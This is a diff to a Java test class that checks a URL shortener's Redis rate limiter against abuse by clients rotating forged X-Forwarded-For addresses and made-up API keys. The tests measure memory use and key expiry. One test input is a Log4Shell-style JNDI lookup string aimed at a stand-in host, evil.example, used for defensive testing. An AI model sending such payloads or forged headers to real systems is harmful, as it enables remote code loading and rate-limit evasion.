@@ -21,8 +21,9 @@ import org.junit.jupiter.api.TestInstance;
 /**
  * A client that rotates through thousands of identities (forged addresses behind a trusted proxy, or made-up API
  * keys) to make Redis remember more and more: every window expires, so memory is bounded by the identities active
- * within one window, and each costs a measured, small number of bytes. An API key or header of any length cannot
- * make a long key.
+ * within one window, and each costs a measured, small number of bytes. Made-up API keys buy no quota (nobody vouches
+ * for them, so the address counts too), and an API key of any length makes neither a long key nor a long field: keys
+ * are kept as fingerprints.
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class KeySpaceAbuseTest {
@@ -54,8 +55,10 @@ class KeySpaceAbuseTest {
                 "rate-limiter.default-policy.algorithm", "sliding_window",
                 "rate-limiter.default-policy.limits", "100/" + WINDOW.toSeconds() + "s"))) {
             List<String> identities = IntStream.range(0, IDENTITIES).mapToObj(i -> longestIpv6(i)).toList();
-            rotate(identities, identity -> Http.get(node.uri(), "/", "X-Forwarded-For", identity));
-            measureAndAwaitExpiry(prefix, "full-length IPv6 addresses");
+            long before = RedisKeys.on(redis).usedMemory();
+            List<Integer> statuses = rotate(identities, identity -> Http.get(node.uri(), "/", "X-Forwarded-For", identity));
+            assertThat(statuses).containsOnly(200);
+            measureAndAwaitExpiry(prefix, before, "full-length IPv6 addresses, each in a /64 of its own");
         }
     }
 
@@ -65,11 +68,18 @@ class KeySpaceAbuseTest {
         try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                 ShortenerNode.properties(redis.uri(), database, prefix),
                 "rate-limiter.identity.key-by", "api-key",
+                "rate-limiter.identity.api-key-secret", "key-space-abuse",
                 "rate-limiter.default-policy.algorithm", "sliding_window",
                 "rate-limiter.default-policy.limits", "100/" + WINDOW.toSeconds() + "s"))) {
             List<String> keys = IntStream.range(0, IDENTITIES).mapToObj(i -> String.format("%08d", i) + "k".repeat(182)).toList();
-            rotate(keys, key -> Http.get(node.uri(), "/", "X-API-Key", key));
-            measureAndAwaitExpiry(prefix, "190-character API keys");
+            long before = RedisKeys.on(redis).usedMemory();
+            long started = System.nanoTime();
+            List<Integer> statuses = rotate(keys, key -> Http.get(node.uri(), "/", "X-API-Key", key));
+            // The rotation may span a few of the address's windows; each lets its quota through, no more.
+            long windows = 1 + Duration.ofNanos(System.nanoTime() - started).toMillis() / WINDOW.toMillis();
+            assertThat(statuses.stream().filter(status -> status == 200).count()).isLessThanOrEqualTo(100 * (windows + 1));
+            assertThat(statuses).contains(429);
+            measureAndAwaitExpiry(prefix, before, "190-character API keys, kept as fingerprints");
         }
     }
 
@@ -78,7 +88,8 @@ class KeySpaceAbuseTest {
         String prefix = ShortenerNode.uniquePrefix(SUITE);
         try (ShortenerNode node = ShortenerNode.start(ShortenerNode.with(
                 ShortenerNode.properties(redis.uri(), database, prefix),
-                "rate-limiter.identity.key-by", "api-key"))) {
+                "rate-limiter.identity.key-by", "api-key",
+                "rate-limiter.identity.api-key-secret", "key-space-abuse"))) {
             for (String key : List.of("k", "k".repeat(190), "k".repeat(191), "k".repeat(5000), "k".repeat(7000),
                     "\ud83d\ude00".repeat(95), "\u00e9".repeat(190), "key with spaces", "${jndi:ldap://evil.example/a}")) {
                 Http.Answer answer = RawHttp.exchange(node.uri(), "GET / HTTP/1.1\r\nHost: localhost\r\nX-API-Key: "
@@ -89,44 +100,43 @@ class KeySpaceAbuseTest {
                     + "k".repeat(100_000) + "\r\nConnection: close\r\n\r\n");
             Problems.assertProblem(huge, 413);
 
-            List<String> stored = RedisKeys.on(redis).keys(prefix);
+            RedisKeys keys = RedisKeys.on(redis);
+            List<String> stored = keys.keys(prefix);
             int longest = stored.stream().mapToInt(key -> key.getBytes(StandardCharsets.UTF_8).length).max().orElseThrow();
-            assertThat(longest).as("longest key, bytes").isLessThan(prefix.length() + 200 * 4 + 64);
-            assertThat(stored).as("keys too long to be an identity fell back to the address")
-                    .anyMatch(key -> key.contains(":state:127.0.0.1 "));
+            assertThat(longest).as("longest key, bytes").isLessThan(prefix.length() + 64);
+            List<String> windows = keys.windows(prefix);
+            assertThat(windows).as("keys too long to be an identity fell back to the address").contains("127.0.0.1 default");
+            assertThat(windows).filteredOn(window -> window.startsWith("key:"))
+                    .allSatisfy(window -> assertThat(window).matches("key:[0-9a-f]{16} default"));
             Figures.report(SUITE, "longest Redis key after API keys of up to 100 KB", longest + " bytes");
         }
     }
 
-    private void rotate(List<String> identities, java.util.function.Function<String, Http.Answer> send) {
+    private List<Integer> rotate(List<String> identities, java.util.function.Function<String, Http.Answer> send) {
         long began = System.nanoTime();
         List<Integer> statuses = identities.parallelStream().map(identity -> send.apply(identity).status()).toList();
-        assertThat(statuses).containsOnly(200);
         Figures.report(SUITE, identities.size() + " identities, one request each", Figures.millis(System.nanoTime() - began) + " ms");
+        return statuses;
     }
 
-    private void measureAndAwaitExpiry(String prefix, String what) {
+    private void measureAndAwaitExpiry(String prefix, long memoryBefore, String what) {
         RedisKeys keys = RedisKeys.on(redis);
-        List<String> all = keys.keys(prefix);
-        List<String> state = all.stream().filter(key -> key.contains(":state:")).toList();
+        List<String> windows = keys.windows(prefix);
         // The first identities' windows may already have ended while the last were still arriving.
-        assertThat(state).isNotEmpty().hasSizeLessThanOrEqualTo(IDENTITIES);
+        assertThat(windows).isNotEmpty().hasSizeLessThanOrEqualTo(IDENTITIES + 1);
         assertThat(keys.immortalState(prefix)).isEmpty();
-        long stateBytes = state.stream().limit(100).mapToLong(keys::memoryUsage).sum() / Math.min(100, state.size());
-        long indexBytes = all.stream().filter(key -> key.contains(":idx:")).mapToLong(keys::memoryUsage).sum() / state.size();
-        Figures.report(SUITE, what + ": Redis memory per identity (its state hash + its share of the three indexes)",
-                stateBytes + " + " + indexBytes + " = " + (stateBytes + indexBytes) + " bytes (" + state.size()
-                        + " identities live when measured)");
+        long perWindow = (keys.usedMemory() - memoryBefore) / windows.size();
+        Figures.report(SUITE, what + ": Redis memory per window, all in (used_memory growth over the live windows)",
+                perWindow + " bytes (" + windows.size() + " windows live when measured)");
 
         long began = System.nanoTime();
+        // Every node removes expired windows once a second; the hashes and indexes themselves expire an hour later.
         await().atMost(WINDOW.multipliedBy(3).plusSeconds(10)).pollInterval(Duration.ofMillis(200)).until(() ->
-                keys.keys(prefix).stream().noneMatch(key -> key.contains(":state:") || key.contains(":idx:")));
+                keys.windows(prefix).isEmpty());
         List<String> left = keys.keys(prefix);
-        assertThat(left).allSatisfy(key -> assertThat(RedisKeys.isConfiguration(key) || key.contains(":stats:"))
-                .as("%s is configuration or a per-second counter", key).isTrue());
-        assertThat(left.stream().filter(key -> key.contains(":stats:")).count()).as("per-second counters (120 s each)")
-                .isLessThanOrEqualTo(121);
-        Figures.report(SUITE, what + ": every window and index entry gone after the last request", "within "
+        assertThat(left).allSatisfy(key -> assertThat(RedisKeys.isConfiguration(key) || keys.ttl(key) > 0)
+                .as("%s is configuration or expires", key).isTrue());
+        Figures.report(SUITE, what + ": every window gone from Redis after the last request", "within "
                 + Figures.millis(System.nanoTime() - began) + " ms of looking (window " + WINDOW.toSeconds() + " s)");
     }
 
